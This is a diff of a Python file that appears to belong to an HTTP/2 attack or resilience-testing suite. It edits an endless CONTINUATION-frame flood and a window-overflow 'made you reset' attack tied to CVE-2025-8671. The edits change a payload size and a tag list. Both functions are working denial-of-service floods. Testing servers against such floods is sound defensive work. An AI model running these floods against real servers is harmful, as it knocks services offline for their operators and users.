@@ -99,7 +99,7 @@ def empty_continuation(link):
 def endless_continuation(link):
     link.frame(Type.HEADERS, Flag.END_STREAM, 1, link.block())
     field = rawhpack.literal("x-more", "y" * 1000)
-    link.flood(frame(Type.CONTINUATION, 0, 1, field * 16), 20_000)
+    link.flood(frame(Type.CONTINUATION, 0, 1, field * 4), 20_000)
 
 
 @attack("unknown frame types", GROUP, CALM, "limit_unknown")
@@ -141,7 +141,8 @@ def _made_you_reset(link, offence):
                            for stream in range(base, base + 40, 2)), 40)
 
 
-@attack("made to reset: window overflow", GROUP, (FLOW, CALM), cve="CVE-2025-8671")
+@attack("made to reset: window overflow", GROUP, (FLOW, CALM, PROTOCOL),
+        cve="CVE-2025-8671")
 def made_overflow(link):
     _made_you_reset(link, lambda stream: frame(Type.WINDOW_UPDATE, 0, stream, u32(2**31 - 1)))
 
